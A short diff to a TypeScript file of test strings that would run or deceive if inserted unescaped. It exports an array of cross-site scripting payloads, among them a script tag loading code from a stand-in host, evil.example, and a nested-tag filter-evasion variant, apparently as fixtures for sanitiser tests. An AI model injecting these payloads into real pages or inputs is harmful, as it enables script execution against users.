@@ -1,6 +1,7 @@
 /* Texts that would run, break or deceive if they were inserted somewhere as they are. */
 
-const scripts = [
+/** Markup and Markdown that would run a script, or load something from elsewhere. */
+export const scripts: readonly string[] = [
   '<script>alert(1)</script>',
   '<script src=//evil.example/x.js></script>',
   '<scr<script>ipt>alert(1)</scr</script>ipt>',
